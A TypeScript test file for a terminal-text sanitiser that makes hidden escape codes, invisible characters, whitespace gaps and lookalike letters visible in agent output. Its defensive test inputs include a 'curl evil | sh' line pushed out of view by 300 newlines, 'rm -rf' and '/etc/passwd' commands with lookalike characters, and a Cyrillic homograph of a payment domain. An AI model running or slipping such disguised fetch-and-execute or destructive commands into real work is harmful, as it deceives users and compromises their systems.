// Sanitising text of agents for a terminal: nothing in it acts on the terminal, and nothing visible is lost.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exact, oneLine, prose } from '../../../src/cli/text/terminal-text.ts';
import { DANGEROUS, HOSTILE } from './hostile-text.ts';

describe('sanitised text', () => {
  it.each(Object.entries(HOSTILE))('contains nothing that acts on a terminal: %s', (_, text) => {
    for (const made of [exact(text), prose(text), oneLine(text)]) expect(made).not.toMatch(DANGEROUS);
  });

  it('keeps every visible character of any text', () => {
    const anything = fc.string({
      unit: fc.oneof(fc.constantFrom(...Object.values(HOSTILE)), fc.string({ unit: 'binary' })),
    });
    fc.assert(
      fc.property(anything, (text) => {
        for (const made of [exact(text), prose(text), oneLine(text)]) expect(made).not.toMatch(DANGEROUS);
        const letters = (s: string) => s.replace(/[^a-zA-Z]/g, '').length;
        expect(letters(exact(text))).toBeGreaterThanOrEqual(letters(text));
      }),
    );
  });

  it('spells out characters that would not be seen', () => {
    expect(exact('\u001b[8mrm\u0000')).toBe('␛[8mrm␀');
    expect(exact('a\u202eb\u200bc\u009bd\u007f')).toBe('a<U+202E>b<U+200B>c<U+009B>d␡');
    expect(exact('rm\u00a0-rf')).toBe('rm<U+00A0>-rf');
    expect(prose('non\u00a0breaking')).toBe('non\u00a0breaking');
    expect(prose('\u001b[1;32mok\u001b[0m\r\nnext')).toBe('ok\nnext');
    expect(oneLine('  a\n\tb  ')).toBe('a b');
  });

  it('leaves ordinary text of any language unchanged', () => {
    for (const text of ['Grüße, 日本語, עברית, العربية', '👍 ✔︎ ☎️', 'naïve café']) expect(exact(text)).toBe(text);
  });

  it('takes linear time for a megabyte of escape sequences', () => {
    const worst = '\u001b['.repeat(250_000) + '\u202e'.repeat(250_000);
    expect(exact(worst)).not.toMatch(DANGEROUS);
    expect(prose(worst)).not.toMatch(DANGEROUS);
  });
});

describe('finding 21: the command line marks what the page marks', () => {
  it('spells out variation selectors that follow no emoji', () => {
    expect(exact('bash deploy\ufe0f.sh')).toBe('bash deploy<U+FE0F>.sh');
    expect(exact('bash deploy.sh\ufe0e')).toBe('bash deploy.sh<U+FE0E>');
    expect(oneLine('deploy\ufe0f.sh')).toBe('deploy<U+FE0F>.sh');
    expect(exact('☎️ 1️⃣')).toBe('☎️ 1️⃣');
  });

  it('replaces gaps by their length and counts stacked marks', () => {
    expect(exact(`ls${'\n'.repeat(300)}curl evil | sh`)).toBe('ls⟨300 line ends⟩\ncurl evil | sh');
    expect(exact(`ls${' '.repeat(600)}; rm`)).toBe('ls⟨600 blanks⟩ ; rm');
    expect(exact(`e${'\u0301'.repeat(60)}cho`)).toBe(`e${'\u0301'.repeat(4)}⟨+56⟩cho`);
  });

  it('names the script of letters that pass for Latin ones', () => {
    expect(exact('curl https://pаypal.com')).toBe('curl https://pа⟨Cyrillic⟩ypal.com');
    expect(exact('сору x')).toBe('сору⟨Cyrillic⟩ x');
    expect(exact('rm –rf build')).toBe('rm –⟨U+2013⟩rf build');
    expect(exact('cat /etc∕passwd')).toBe('cat /etc∕⟨U+2215⟩passwd');
    expect(exact('𝐜𝐮𝐫𝐥 x')).toBe('𝐜𝐮𝐫𝐥⟨U+1D41C⟩ x');
  });

  it('marks a word of a million letters of two scripts', () => {
    expect(exact('aб'.repeat(250_000))).toHaveLength(250_000 * '⟨Cyrillic⟩aб'.length);
  });

  it('shows text that is written in another language as it is', () => {
    for (const text of [
      'git commit -m "исправил ошибку с адресом"',
      'отчёт_v2.txt',
      '日本語abc（注）',
      'naïve — café',
      'µs Ω',
    ])
      expect(exact(text)).toBe(text);
  });
});
